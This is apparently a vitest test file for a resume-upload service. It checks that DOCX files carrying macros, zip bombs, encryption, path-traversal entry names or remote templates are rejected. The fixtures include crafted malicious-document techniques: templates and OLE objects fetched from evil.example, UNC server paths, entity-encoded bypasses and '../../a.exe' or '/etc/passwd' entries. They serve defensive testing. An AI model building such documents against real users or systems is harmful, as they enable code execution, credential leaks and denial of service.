import { deflateRawSync } from 'node:zlib';
import { unzipSync } from 'fflate';
import { describe, it } from 'vitest';
import { messages } from '#contract/messages.ts';
import { compoundFile } from './compound-file.ts';
import { useApi } from './harness.ts';
import { docxResume, pdfResume } from './resume-files.ts';
import { expectJudged, type Judgement } from './resume-judged.ts';
import { type ZipEntry, zipFile } from './zip-file.ts';

const api = useApi();
const otherKind: Judgement = [415, messages.resumeContent];
const damaged: Judgement = [400, messages.resumeDamaged];
const bomb: Judgement = [400, messages.resumeBomb];
const macros: Judgement = [415, messages.resumeMacros];
const remote: Judgement = [415, messages.resumeRemote];
const locked: Judgement = [415, messages.resumeProtected];

const parts = Object.entries(unzipSync(docxResume)).map(([name, content]) => ({ name, content: Buffer.from(content) }));
const [contentTypes = ''] = parts.map(({ content }) => content.toString());

/** A document with these parts beside its own, or in their place. */
function docx(...changes: ZipEntry[]): Buffer {
  return zipFile([...parts.filter(({ name }) => !changes.some((change) => change.name === name)), ...changes]);
}

function typed(from: string, to: string): ZipEntry {
  return { name: '[Content_Types].xml', content: contentTypes.replace(from, to) };
}

function without(part: string): Buffer {
  return zipFile(parts.filter(({ name }) => name !== part));
}

const relationshipTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function related(type: string, target: string, name = 'word/_rels/settings.xml.rels'): ZipEntry {
  const content = `<Relationships><Relationship Id="rId1" Type="${relationshipTypes}/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
  return { name, content };
}

const template = related('attachedTemplate', 'https://evil.example/a.dotm');

/** The same relationships, written in another way. */
function rewritten(part: ZipEntry, rewrite: (xml: string) => Buffer | string): ZipEntry {
  return { ...part, content: rewrite(String(part.content)) };
}

const mebibyte = 1024 * 1024;
const zeros = deflateRawSync(Buffer.alloc(50 * mebibyte));
const documentType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const override = `<Override PartName="/word/document.xml" ContentType="${documentType}"/>`;
const utf16 = Buffer.from(`\ufeff${contentTypes}`, 'utf16le');

describe('a DOCX', () => {
  it.each<[string, Buffer, Judgement]>([
    ['of three parts', docxResume, 'stored'],
    ['whose main part has another name, as Office on the web has it', zipFile(parts.map((part) => ({
      name: part.name.replace('document.xml', 'document2.xml'),
      content: part.content.toString().replaceAll('/document.xml', '/document2.xml'),
    }))), 'stored'],
    ['with content types in UTF-16', docx({ name: '[Content_Types].xml', content: utf16 }), 'stored'],
    ['with prefixed content types in single quotes', docx(typed(override, override.replace('<', '<t:').replaceAll('"', "'"))), 'stored'],
    ['with pictures that unpack to 60 MB', docx({ name: 'word/media/a.bmp', packed: zeros, size: 50 * mebibyte }), 'stored'],
    ['with a table of Excel in it', docx({ name: 'word/embeddings/a.xlsx', content: docxResume }), 'stored'],
    ['with a nested bomb, which nothing unpacks', docx({ name: 'word/embeddings/a.zip', content: zipFile([{ name: 'a', packed: zeros, size: 2 ** 31 }]) }), 'stored'],
    ['with links', docx(related('hyperlink', 'https://example.com/?a=1&amp;b=2', 'word/_rels/document.xml.rels')), 'stored'],
    ['with a linked picture', docx(related('image', 'https://example.com/a.png')), 'stored'],
    ['made from a template on its author\'s disk', docx(related('attachedTemplate', 'file:///C:\\Users\\Ada\\Templates\\Resume.dotx')), 'stored'],
    ['made from a template on a Mac', docx(related('attachedTemplate', 'file:///Users/ada/Resume.dotx')), 'stored'],
    ['made from a template beside it', docx(related('attachedTemplate', 'Normal.dotm')), 'stored'],

    ['with a project of macros', docx({ name: 'word/vbaProject.bin', content: 'x' }), macros],
    ['with a project of macros in another case', docx({ name: 'word/VBAPROJECT.BIN', content: 'x' }), macros],
    ['with a project of macros under another name', docx({ name: 'word/_rels/document.xml.rels', content:
      '<Relationships><Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/></Relationships>' }), macros],
    ['that calls itself one with macros', docx(typed(documentType, 'application/vnd.ms-word.document.macroEnabled.main+xml')), macros],
    ['that calls itself one with macros, spelt in numbers', docx(typed(override, `${override}<Default Extension="bin" ContentType="application/vnd.ms-office.vb&#x61;Project"/>`)), macros],
    ['whose content types define entities', docx(typed('<Types', '<!DOCTYPE Types [<!ENTITY a "macroEnabled">]><Types')), damaged],
    ['with a password', compoundFile({ EncryptionInfo: Buffer.alloc(8), EncryptedPackage: Buffer.alloc(64) }), locked],
    ['with a password on its entries', docx({ name: 'word/styles.xml', content: 'x', encrypted: true }), locked],

    ['with a template on the web', docx(template), remote],
    ['with a template on the web, prefixed', docx(rewritten(template, (xml) => xml.replace('<R', '<é:R').replace('<R', '<é:R'))), remote],
    ['with a template on the web, in UTF-16', docx(rewritten(template, (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le'))), remote],
    ['with a template on the web, in UTF-16 without a mark', docx(rewritten(template, (xml) => Buffer.from(xml, 'utf16le'))), damaged],
    ['with a template on the web, its type on two lines', docx(related('attachedTemplate&#10;', 'https://evil.example/a.dotm')), remote],
    ['with a template on the web, and the opposite in the name of a namespace', docx(rewritten(template, (xml) =>
      xml.replace('/></', ` xmlns:é="TargetMode='Internal'"/></`))), remote],
    ['with a template on a server', docx(related('attachedTemplate', '\\\\evil.example\\share\\a.dotm')), remote],
    ['with a template on a server, as a URL', docx(related('attachedTemplate', 'file://evil.example/a.dotm')), remote],
    ['with a template on a server, as a path in a URL', docx(related('attachedTemplate', 'file:///%5C%5Cevil.example/a.dotm')), remote],
    ['with a template on the web, spelt in numbers', docx(related('attachedTempl&#97;te', '&#104;ttps://evil.example/a.dotm')), remote],
    ['with an object that is fetched and run', docx(related('oleObject', 'mhtml:https://evil.example/a!x-usc:https://evil.example/a')), remote],
    ['with a page as a part of it', docx(related('aFChunk', 'https://evil.example/a.html')), remote],

    ['that unpacks to 200 MB', docx(...['a', 'b', 'c', 'd'].map((name) => ({ name, packed: zeros, size: 50 * mebibyte }))), bomb],
    ['that unpacks to 4 GB, as it says', docx({ name: 'a', packed: zeros, size: 0xfffffffe }), bomb],
    ['of more entries than any document has', docx(...Array.from({ length: 1200 }, (_, index) => ({ name: `a${index}` }))), bomb],
    ['whose content types unpack to 5 MB', docx(typed('<Types', `<Types${' '.repeat(5 * mebibyte)}`)), bomb],
    ['whose entries share their bytes', docx({ name: 'a', packed: zeros, size: 1 }, ...Array.from({ length: 300 }, (_, index) => ({ name: `a${index}`, packed: zeros, size: 1, shared: true }))), damaged],
    ['with an entry of 50 MB that says it is small', docx({ name: 'a', packed: zeros, size: 1000 }), damaged],
    ['with an entry that says it is longer', docx({ name: 'a', content: 'x', size: 1000 }), damaged],
    ['with an entry that is not what it is packed as', docx({ name: 'a', packed: Buffer.from('no deflate'), size: 10 }), damaged],
    ['with a part twice', zipFile([...parts, ...parts.slice(2)]), damaged],
    ['with a part twice, in two cases', docx({ name: 'WORD/document.xml' }), damaged],
    ['with another name before the content than in the directory', docx({ name: 'a.xml', localName: 'b.exe' }), damaged],
    ...['../../a.exe', '/etc/passwd', 'C:/a.exe', 'word\\..\\..\\a.exe'].map(
      (name): [string, Buffer, Judgement] => [`with an entry at ${name}`, docx({ name }), damaged],
    ),

    ['without content types', without('[Content_Types].xml'), otherKind],
    ['without the document', without('word/document.xml'), otherKind],
    ['that is a spreadsheet', docx(typed(documentType, documentType.replace('wordprocessingml.document', 'spreadsheetml.sheet'))), otherKind],
    ['that is a template', docx(typed('document.main', 'template.main')), otherKind],
    ['that is any archive', zipFile([{ name: 'a.exe', content: 'MZ' }]), otherKind],
    ['that begins as a picture', Buffer.concat([Buffer.from('GIF89a'), docxResume]), otherKind],
    ['that begins as a PDF', Buffer.concat([pdfResume, docxResume]), otherKind],
    ['that is cut off', docxResume.subarray(0, docxResume.length / 2), damaged],
    ['with something behind its end', Buffer.concat([docxResume, Buffer.from('MZ')]), damaged],
    ['of its first bytes only', Buffer.from('PK\x03\x04'), damaged],
  ])('%s', async (_, content, judgement) => {
    await expectJudged(api, { name: 'a.docx', content }, judgement);
  });
});
